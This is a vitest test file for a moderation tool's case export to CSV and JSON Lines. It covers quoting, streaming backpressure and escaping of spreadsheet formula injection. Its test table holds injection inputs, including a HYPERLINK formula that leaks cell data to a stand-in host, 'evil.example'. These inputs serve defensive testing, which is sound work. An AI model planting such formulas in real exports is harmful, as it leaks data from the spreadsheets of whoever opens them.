// The text of `chatwarden cases export`, as a spreadsheet or a script reads it: RFC 4180 CSV with
// a header, or one JSON object a line; player text that a spreadsheet would run as a formula is
// made text in CSV (OWASP's list: =, +, -, @, tab, carriage return, line feed); cases are pulled
// only as fast as the reader takes them; and a reader that stops (`| head`) ends it quietly.
import { PassThrough, Writable } from "node:stream";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, writeCases } from "../../../app/cases/case-export.js";
import { caseData } from "../../../src/moderation/case-data.js";
import type { Case } from "../../../src/moderation/cases.js";

const AT = new Date("2026-11-01T09:30:00.000Z");

const aCase = (number: number, extra: Partial<Case> = {}): Case => ({
  number,
  at: AT,
  platform: "discord",
  actorId: "100",
  actorName: "Mina",
  command: "ban",
  target: "gamer-42",
  args: { gamer_id: "gamer-42", days: 3 },
  reason: "spam",
  outcome: "success",
  answer: { gamer_id: "gamer-42", days: 3 },
  error: undefined,
  ...extra,
});

async function* listed(cases: readonly Case[]): AsyncGenerator<Case> {
  yield* cases;
}

async function exported(cases: readonly Case[], format: "csv" | "jsonl"): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on("data", (chunk: Buffer) => chunks.push(chunk));
  expect(await writeCases(listed(cases), format, out)).toBe("written");
  return Buffer.concat(chunks).toString("utf8");
}

describe("cases export as CSV", () => {
  it("writes a header and one CRLF-ended record a case, quoting as RFC 4180 says", async () => {
    const text = await exported(
      [
        aCase(1),
        aCase(2, {
          platform: "cli",
          actorName: 'Op "the boss", night shift',
          command: "unban",
          reason: undefined,
          outcome: "failed",
          answer: undefined,
          error: "line one\r\nline two",
        }),
      ],
      "csv",
    );
    expect(text).toBe(
      [
        CSV_COLUMNS.join(","),
        '1,2026-11-01T09:30:00.000Z,discord,100,Mina,ban,gamer-42,"{""gamer_id"":""gamer-42"",""days"":3}",spam,success,"{""gamer_id"":""gamer-42"",""days"":3}",',
        '2,2026-11-01T09:30:00.000Z,cli,100,"Op ""the boss"", night shift",unban,gamer-42,"{""gamer_id"":""gamer-42"",""days"":3}",,failed,,"line one\r\nline two"',
        "",
      ].join("\r\n"),
    );
    expect(CSV_COLUMNS.join(",")).toBe(
      "number,at,platform,actor_id,actor_name,command,target,args,reason,outcome,answer,error",
    );
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1)', '"\'=HYPERLINK(""https://evil.example/?""&A1)"'],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", '"\'\r=1+1"'],
    ["\n=1+1", '"\'\n=1+1"'],
    ["＝1+1", "'＝1+1"],
    // Only the first character makes a formula: the rest is left as typed.
    ["spam = ads + links", "spam = ads + links"],
  ])("makes %j text in every player-written cell", async (typed, cell) => {
    const text = await exported(
      [aCase(7, { actorName: typed, target: typed, reason: typed, error: typed })],
      "csv",
    );
    const record = text.split("\r\n")[1] ?? "";
    // actor_name, target, reason and error: each made text the same way.
    expect(record).toBe(
      `7,2026-11-01T09:30:00.000Z,discord,100,${cell},ban,${cell},"{""gamer_id"":""gamer-42"",""days"":3}",${cell},success,"{""gamer_id"":""gamer-42"",""days"":3}",${cell}`,
    );
  });
});

describe("cases export as JSON Lines", () => {
  it("writes one object a line, as history --json shows a case, with player text as typed", async () => {
    const text = await exported(
      [aCase(1), aCase(2, { reason: '=HYPERLINK("x")\nsecond line', answer: undefined })],
      "jsonl",
    );
    const lines = text.split("\n");
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe("");
    // The object history --json shows for the case, to the last field.
    expect(JSON.parse(lines[0] ?? "")).toEqual(JSON.parse(JSON.stringify(caseData(aCase(1)))));
    expect(Object.keys(JSON.parse(lines[0] ?? ""))).toEqual([...CSV_COLUMNS]);
    expect(JSON.parse(lines[1] ?? "")).toMatchObject({
      number: 2,
      reason: '=HYPERLINK("x")\nsecond line',
      answer: null,
    });
  });
});

describe("cases export as a stream", () => {
  /** Endless cases, counting how many were taken from the store. */
  function endless() {
    const counter = { taken: 0 };
    async function* cases(): AsyncGenerator<Case> {
      for (;;) yield aCase(++counter.taken);
    }
    return { counter, cases: cases() };
  }

  /** Lets every callback that can run, run; resolves once `counter.taken` has stopped moving. */
  async function settled(counter: { taken: number }): Promise<number> {
    let still = 0;
    let last = -1;
    while (still < 20) {
      await new Promise((resolve) => setImmediate(resolve));
      still = counter.taken === last ? still + 1 : 0;
      last = counter.taken;
    }
    return last;
  }

  it.each(["csv", "jsonl"] as const)(
    "takes no more %s cases while the reader does not read, and goes on when it does",
    async (format) => {
      const { counter, cases } = endless();
      const held: (() => void)[] = [];
      let written = 0;
      /** Bytes the reader reads at once; past them, it holds each write unanswered. */
      let reading = 0;
      const slowReader = new Writable({
        highWaterMark: 1024,
        write(chunk: Buffer, _encoding, done) {
          written += chunk.length;
          reading -= chunk.length;
          if (reading >= 0) done();
          else held.push(done);
        },
      });
      const end = writeCases(cases, format, slowReader);
      const taken = await settled(counter);
      // A few buffers' worth (a 64 KiB block is some 300 cases), never the endless rest.
      expect(taken).toBeGreaterThan(0);
      expect(taken).toBeLessThan(3_000);
      expect(written).toBeGreaterThan(0);

      // The reader reads 1 MB (some 4,000 cases): more cases are taken, and again no end of them.
      reading = 1_000_000;
      for (const done of held.splice(0)) done();
      const more = await settled(counter);
      expect(more).toBeGreaterThan(taken + 3_000);
      expect(more).toBeLessThan(taken + 10_000);

      slowReader.destroy(Object.assign(new Error("write EPIPE"), { code: "EPIPE" }));
      expect(await end).toBe("reader-gone");
    },
  );

  it("fails with the store's failure when reading the cases fails", async () => {
    async function* failing(): AsyncGenerator<Case> {
      yield aCase(1);
      throw new Error("the store went away");
    }
    await expect(writeCases(failing(), "csv", new PassThrough().resume())).rejects.toThrow(
      "the store went away",
    );
  });
});
